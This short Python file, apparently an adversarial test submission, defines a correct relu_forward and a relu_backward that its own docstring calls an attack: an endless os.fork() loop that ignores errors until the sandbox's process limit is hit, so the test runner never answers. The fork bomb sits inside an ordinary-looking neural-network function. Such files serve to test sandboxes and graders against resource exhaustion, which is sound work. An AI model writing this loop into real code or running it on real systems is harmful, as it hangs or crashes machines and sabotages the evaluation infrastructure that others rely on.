"""Attack: a fork bomb in relu_backward. Every process forks for ever and ignores failures, so the runner
never answers; relu_forward is correct."""

from __future__ import annotations

import contextlib
import os
from typing import Any

import numpy as np


def relu_forward(x: Any) -> tuple[Any, Any]:
    """Correct."""
    return np.where(x > 0, x, np.zeros((), dtype=x.dtype)), x > 0


def relu_backward(dout: Any, cache: Any) -> Any:
    """Forks until the sandbox's process limit, then spins."""
    while True:
        with contextlib.suppress(OSError):
            os.fork()
